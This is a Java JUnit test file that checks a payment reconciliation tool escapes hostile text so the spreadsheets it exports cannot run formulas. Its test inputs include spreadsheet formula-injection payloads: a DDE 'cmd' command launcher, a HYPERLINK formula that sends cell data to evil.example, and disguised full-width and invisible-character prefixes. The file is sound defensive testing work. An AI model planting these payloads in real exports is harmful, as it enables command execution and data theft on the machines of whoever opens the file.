package io.tillwatch.reconciliation;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts of shops, providers and people must not be run by the spreadsheet that the list is opened in. */
class HostileTextTest {
    private static final List<String> NUMBERS =
            List.of("attempt", "expected_minor", "actual_minor", "delta_minor", "effect_minor", "age_hours");

    @TempDir
    private Path work;

    private Desk desk;
    private Spreadsheet office;

    @BeforeEach
    void set_up() {
        desk = new Desk(work);
        office = new Spreadsheet(desk);
    }

    /** Cells that begin like a formula, but the numbers, which may begin with a minus. */
    private List<String> live() throws Exception {
        List<List<String>> sheet = office.sheet();
        List<String> live = new ArrayList<>();
        for (List<String> row : sheet.subList(1, sheet.size())) {
            for (int i = 0; i < row.size(); i++) {
                boolean number =
                        NUMBERS.contains(sheet.get(0).get(i)) && row.get(i).matches("(-?\\d+)?");
                String seen = row.get(i).replaceAll("^[\\p{Z}\\p{Cf}\\p{Cc}&&[^\\t\\r\\n]]+", "");
                if (!number && seen.matches("(?s)[=+\\-@\\t\\r\\n\uFF1D\uFF0B\uFF0D\uFF20].*")) {
                    live.add(sheet.get(0).get(i) + ": " + row.get(i));
                }
            }
        }
        return live;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"\"http://evil.example/?\"\"&A1)",
                "+237650123456",
                "-1+1",
                "@SUM(A1)",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20x",
                "\u202E=1",
                "\u200B=1",
                "'=1",
                "'x"
            })
    void ids_of_shop_and_provider_are_texts_and_their_decisions_are_kept(String hostile) throws Exception {
        String cell = '"' + hostile + '"';
        String order = hostile.replace("\"\"", "\"");
        desk.store(cell + ",1,stripe," + cell + ",5000,5000,0,XAF,SUCCEEDED,API,2026-03-01T10:00:00Z,")
                .provider("stripe,PAYMENT,\"" + hostile + "9\",X,7000,,,XAF,,,SUCCEEDED,,2026-03-01T10:00:00Z,,,");
        RunReport first = Desk.done(office.run(Desk.NOON).run());
        assertThat(first.discrepancies()).hasSize(2);
        assertThat(live()).isEmpty();

        List<List<String>> sheet = office.sheet();
        Spreadsheet.set(
                sheet,
                "'" + order,
                "state",
                "explained",
                "decided_by",
                "'" + order + "!",
                "comment",
                "- known, " + order);
        office.save(sheet);
        RunReport taken = Desk.done(office.give(Desk.NOON.plusSeconds(60)));
        RunReport later = Desk.done(office.run(Desk.NOON.plusSeconds(120)).run());
        for (RunReport run : List.of(taken, later)) {
            assertThat(Spreadsheet.byOrder(run).get(order))
                    .extracting(FollowUp::state, FollowUp::comment, FollowUp::decidedBy)
                    .containsExactly("explained", "- known, " + order, order + "!");
            assertThat(Spreadsheet.texts(run.notices())).noneMatch(notice -> notice.contains("not to be edited"));
        }
        assertThat(live()).isEmpty();
    }

    @Test
    void a_list_that_nobody_touched_changes_nothing_whether_or_not_the_spreadsheet_keeps_the_apostrophes()
            throws Exception {
        desk.store("=A,1,stripe,=p1,5000,5000,0,XAF,SUCCEEDED,API,2026-03-01T10:00:00Z,")
                .provider();
        Desk.done(office.run(Desk.NOON).run());
        List<List<String>> sheet = office.sheet();
        Spreadsheet.set(sheet, "'=A", "state", "accepted", "decided_by", "Awa", "comment", "=1+1");
        office.save(sheet);
        Desk.done(office.give(Desk.NOON.plusSeconds(60)));
        List<List<String>> kept = office.sheet();
        assertThat(kept.get(1)).contains("'=A", "'=1+1", "Awa");
        String list = desk.read("discrepancies.csv");

        for (String apostrophe : List.of("'", "")) {
            List<List<String>> saved = kept.stream()
                    .map(row -> row.stream()
                            .map(cell -> cell.startsWith("'=") ? apostrophe + cell.substring(1) : cell)
                            .toList())
                    .toList();
            office.save(saved, ";", "\r\n", "\uFEFF", StandardCharsets.UTF_8);
            RunReport run = Desk.done(office.give(Desk.NOON.plusSeconds(60)));
            assertThat(run.notices()).isEmpty();
            assertThat(desk.read("discrepancies.csv")).isEqualTo(list);
        }
    }
}
